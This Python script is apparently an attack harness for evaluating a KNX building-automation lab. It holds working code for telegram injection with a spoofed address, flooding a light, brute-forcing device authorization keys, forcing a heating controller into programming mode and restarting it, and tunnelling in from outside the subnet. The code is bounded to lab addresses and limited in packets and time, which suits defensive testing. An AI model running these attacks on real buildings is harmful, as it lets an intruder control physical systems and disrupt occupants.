"""Attacks on the KNX evaluation building (netns.sh), from the attacker's host on the LAN
(kw-atk, 198.18.10.66) or from outside the building's subnet (kw-out, 198.18.20.66). Each sends
only to 198.18.0.0/15 or the KNX routing multicast group (TTL 1), and is bounded in telegrams and
time. Two more attacks come from the building's own addresses (building.py: spoof-sensor,
setpoint).

  inject      from the LAN, KNXnet/IP routing with a new individual address 1.1.99: switches
              the living room light on and sends the blind down
  flood       from the LAN, KNXnet/IP routing as the light push button 1.1.32: 150 on/off
              writes to the living room light in 3 s
  authorize   from the LAN, through a KNXnet/IP tunnel of knxd: a transport connection to the
              heating controller 1.1.41 and 8 A_Authorize_Request with guessed keys
  management  from the LAN, through a tunnel: a transport connection to the heating controller,
              A_PropertyValue_Write (device object, programming mode) and A_Restart
  outside     from 198.18.20.66 (outside the building's /24, through the IP router): a tunnel
              to knxd, reads of three values and one write switching the light on

Usage: python3 attacks.py NAME
"""

import socket
import struct
import sys
import time

import guard
import knxframes as kf

NAMESPACE = {
    "inject": "kw-atk",
    "flood": "kw-atk",
    "authorize": "kw-atk",
    "management": "kw-atk",
    "outside": "kw-out",
}
LAN_IP = "198.18.10.66"
OUTSIDE_IP = "198.18.20.66"
GATEWAY = "198.18.10.10"
HEATING_CONTROLLER = "1.1.41"
# No attack sends more than this many packets of its own, nor runs longer than this.
MAX_PACKETS = 400
MAX_SECONDS = 30


class Budget:
    def __init__(self):
        self.sent = 0
        self.deadline = time.monotonic() + MAX_SECONDS

    def spend(self):
        self.sent += 1
        if self.sent > MAX_PACKETS or time.monotonic() > self.deadline:
            sys.exit("attack budget exhausted")


BUDGET = Budget()


def routing_socket(local_ip: str) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local_ip))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.bind((local_ip, 0))
    return s


def route(sock, src: str, group: str, dpt: str, value) -> None:
    BUDGET.spend()
    frame = kf.routing_indication(
        kf.ia(src), kf.ga(group), kf.group_apdu(kf.A_GROUP_WRITE, kf.payload(dpt, value))
    )
    sock.sendto(frame, (guard.lab_address(kf.KNX_MULTICAST), kf.KNX_PORT))


def inject() -> None:
    s = routing_socket(LAN_IP)
    route(s, "1.1.99", "1/1/1", "1.001", True)
    time.sleep(1.0)
    route(s, "1.1.99", "2/1/1", "1.008", True)


def flood() -> None:
    s = routing_socket(LAN_IP)
    for i in range(150):
        route(s, "1.1.32", "1/1/1", "1.001", i % 2 == 0)
        time.sleep(0.02)


class Tunnel:
    """A minimal KNXnet/IP tunnelling client (03_08_04): connect, send cEMI L_Data.req frames
    one at a time waiting for each TUNNELLING_ACK, acknowledge what the server sends, and
    disconnect."""

    def __init__(self, local_ip: str, gateway: str):
        self.gateway = (guard.lab_address(gateway), kf.KNX_PORT)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
        self.sock.bind((local_ip, 0))
        self.sock.settimeout(0.2)
        self.local = self.sock.getsockname()
        self.channel = None
        self.seq = 0

    def send(self, frame: bytes) -> None:
        BUDGET.spend()
        self.sock.sendto(frame, self.gateway)

    def receive(self, want: int, timeout: float = 3.0) -> bytes | None:
        """Wait for a frame of service `want`, acknowledging tunnelling requests meanwhile."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            try:
                data, _ = self.sock.recvfrom(1024)
            except socket.timeout:
                continue
            parsed = kf.parse_knxip(data)
            if parsed is None:
                continue
            service, body = parsed
            if service == kf.TUNNELLING_REQUEST and len(body) >= 4:
                self.send(kf.tunnelling_ack(body[1], body[2]))
            elif service == kf.DISCONNECT_REQUEST and len(body) >= 1:
                self.send(kf.disconnect_response(body[0]))
            if service == want:
                return body
        return None

    def connect(self) -> None:
        self.send(kf.connect_request(*self.local))
        body = self.receive(kf.CONNECT_RESPONSE)
        if body is None or len(body) < 2 or body[1] != 0:
            sys.exit(f"tunnel refused: {body!r}")
        self.channel = body[0]
        print(f"tunnel channel {self.channel}", flush=True)

    def cemi(self, dst: int, group: bool, tpdu: bytes) -> None:
        frame = kf.cemi(kf.L_DATA_REQ, 0, dst, group, tpdu)
        self.send(kf.tunnelling_request(self.channel, self.seq, frame))
        if self.receive(kf.TUNNELLING_ACK) is None:
            print("no tunnelling ack", flush=True)
        self.seq = (self.seq + 1) & 0xFF

    def pump(self, seconds: float) -> None:
        self.receive(-1, seconds)

    def disconnect(self) -> None:
        self.send(kf.disconnect_request(self.channel, *self.local))
        self.receive(kf.DISCONNECT_RESPONSE)


def authorize() -> None:
    t = Tunnel(LAN_IP, GATEWAY)
    t.connect()
    dst = kf.ia(HEATING_CONTROLLER)
    t.cemi(dst, False, kf.T_CONNECT)
    for seq, key in enumerate([0xFFFFFFFF, 0x00000000, 0x12345678, 0x11111111, 0x01020304,
                               0xAAAAAAAA, 0x55555555, 0xDEADBEEF]):
        apdu = kf.connected_apdu(seq, kf.A_AUTHORIZE_REQUEST, bytes([0]) + struct.pack("!I", key))
        t.cemi(dst, False, apdu)
        t.pump(0.4)
    t.cemi(dst, False, kf.T_DISCONNECT)
    t.disconnect()


def management() -> None:
    t = Tunnel(LAN_IP, GATEWAY)
    t.connect()
    dst = kf.ia(HEATING_CONTROLLER)
    t.cemi(dst, False, kf.T_CONNECT)
    # Device object (index 0), PID_PROG_MODE (54), one element from index 1: programming mode on.
    t.cemi(dst, False, kf.connected_apdu(0, kf.A_PROPERTY_VALUE_WRITE, bytes([0, 54, 0x10, 0x01, 0x01])))
    t.pump(0.5)
    t.cemi(dst, False, kf.connected_apdu(1, kf.A_RESTART))
    t.pump(0.5)
    t.cemi(dst, False, kf.T_DISCONNECT)
    t.disconnect()


def outside() -> None:
    t = Tunnel(OUTSIDE_IP, GATEWAY)
    t.connect()
    for g in ("3/1/1", "3/2/2", "1/4/1"):
        t.cemi(kf.ga(g), True, kf.group_apdu(kf.A_GROUP_READ, None))
        t.pump(0.5)
    t.cemi(kf.ga("1/1/1"), True, kf.group_apdu(kf.A_GROUP_WRITE, kf.payload("1.001", True)))
    t.pump(1.0)
    t.disconnect()


ATTACKS = {
    "inject": inject,
    "flood": flood,
    "authorize": authorize,
    "management": management,
    "outside": outside,
}


def main() -> None:
    if len(sys.argv) != 2 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: attacks.py {'|'.join(ATTACKS)}")
    name = sys.argv[1]
    guard.require(NAMESPACE[name])
    ATTACKS[name]()
    print(f"{name}: sent {BUDGET.sent} packets", flush=True)


if __name__ == "__main__":
    main()
